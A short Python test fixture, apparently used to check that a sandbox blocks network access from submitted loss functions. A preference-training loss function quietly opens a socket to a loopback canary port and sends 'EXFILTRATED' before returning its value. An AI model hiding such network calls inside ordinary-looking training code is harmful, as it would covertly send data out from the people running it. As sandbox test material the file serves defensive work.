"""Threat: reach the network (exfiltrate to a server on the host's loopback)."""

import socket


def loss(policy_chosen_logps, policy_rejected_logps):
    s = socket.create_connection(("127.0.0.1", int("@CANARY_PORT@")), timeout=2)
    s.sendall(b"EXFILTRATED")
    s.close()
    return policy_rejected_logps - policy_chosen_logps
